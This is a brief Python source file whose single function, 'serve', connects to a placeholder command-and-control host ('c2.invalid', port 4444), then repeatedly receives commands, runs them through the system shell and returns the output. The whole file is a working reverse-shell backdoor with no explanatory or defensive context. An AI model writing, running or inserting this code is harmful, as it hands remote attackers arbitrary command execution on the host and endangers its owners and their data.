import socket
import subprocess

def serve():
    s = socket.socket()
    s.connect(("c2.invalid", 4444))
    while True:
        command = s.recv(1024).decode()
        out = subprocess.check_output(command, shell=True)
        s.send(out)
